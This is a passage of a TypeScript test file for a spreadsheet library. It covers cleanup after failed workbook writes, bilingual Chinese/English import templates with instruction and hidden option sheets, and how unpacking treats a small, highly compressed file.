      writeWorkbook(path, { title: 'a', columns: [{ title: 'a' }], rows: endless(), signal: abort.signal }),
    ).rejects.toThrow('enough');
    await expect(
      writeWorkbook(join(folder, 'no', 'such.xlsx'), {
        title: 'a',
        columns: [{ title: 'a' }],
        rows: batchesOf([['x']]),
      }),
    ).rejects.toMatchObject({ code: 'ENOENT' });
    expect((await readdir(folder)).filter((name) => name.endsWith('.part'))).toEqual([]);
    expect(await readdir(folder)).not.toContain(`${files}.xlsx`);
  });
});

describe('templates', () => {
  it('has headings only on the first sheet, rules on the second, lists in a third', async () => {
    const path = fresh();
    await writeTemplate(path, {
      title: ['人员', 'People'],
      columns: [
        { title: ['工号', 'Staff number'], required: true, example: '00123', rule: ['校内工号', 'Number'] },
        { title: ['姓名', 'Name'], required: true, example: '张三' },
        { title: ['入职日期', 'Joined on'], kind: 'date', example: '2026-01-05' },
        { title: ['备注', 'Remark'], choices: [['在职', 'Active'], '离职, 退休', '='.repeat(200)] },
      ],
    });
    const book = await openedBy(path);
    const [sheet, guide, lists] = book.worksheets;
    expect(book.worksheets.map(({ name, state }) => [name, state])).toEqual([
      ['人员', 'visible'],
      ['填写说明', 'visible'],
      ['选项', 'hidden'],
    ]);
    expect(sheet?.getRow(1).values).toEqual([undefined, '工号*', '姓名*', '入职日期', '备注']);
    expect(sheet?.rowCount).toBe(1);
    expect(sheet?.getCell('D2').dataValidation).toMatchObject({
      type: 'list',
      formulae: ["'选项'!$A$1:$A$3"],
    });
    expect(sheet?.getColumn(1).numFmt).toBe('@');
    expect(guide?.getRow(2).values).toEqual(
      [undefined, '工号', '必填', '校内工号', null, '00123'].map((value) => value ?? undefined),
    );
    expect(guide?.getCell('C4').value).toBe('日期，如 2026-01-05');
    expect(lists?.getCell('A2').value).toBe('离职, 退休');
    expect(await codeOf(path)).toBe('EMPTY');

    if (sheet !== undefined) sheet.getRow(2).values = ['00123', '张三', '2026/1/5', '在职'];
    await book.xlsx.writeFile(path);
    expect(await readAll(path)).toEqual([
      { row: 2, cells: ['00123', '张三', '2026-01-05', '在职'], errors: [] },
    ]);
  });

  it('speaks English', async () => {
    const path = fresh();
    await writeTemplate(path, {
      title: ['人员', 'People'],
      locale: 'en-US',
      columns: [{ title: ['姓名', 'Name'], choices: [['是', 'Yes']] }],
    });
    expect((await openedBy(path)).worksheets.map(({ name }) => name)).toEqual([
      'People',
      'How to fill in',
      'Lists',
    ]);
  });
});

it('unpacks with a ratio over 100 when the file is small', async () => {
  const path = await packed({
    'xl/worksheets/sheet1.xml': sheetOf(`<row>${inline('A2', '1')}</row>${' '.repeat(2_000_000)}`),
  });
  expect(await readAll(path)).toHaveLength(1);
});
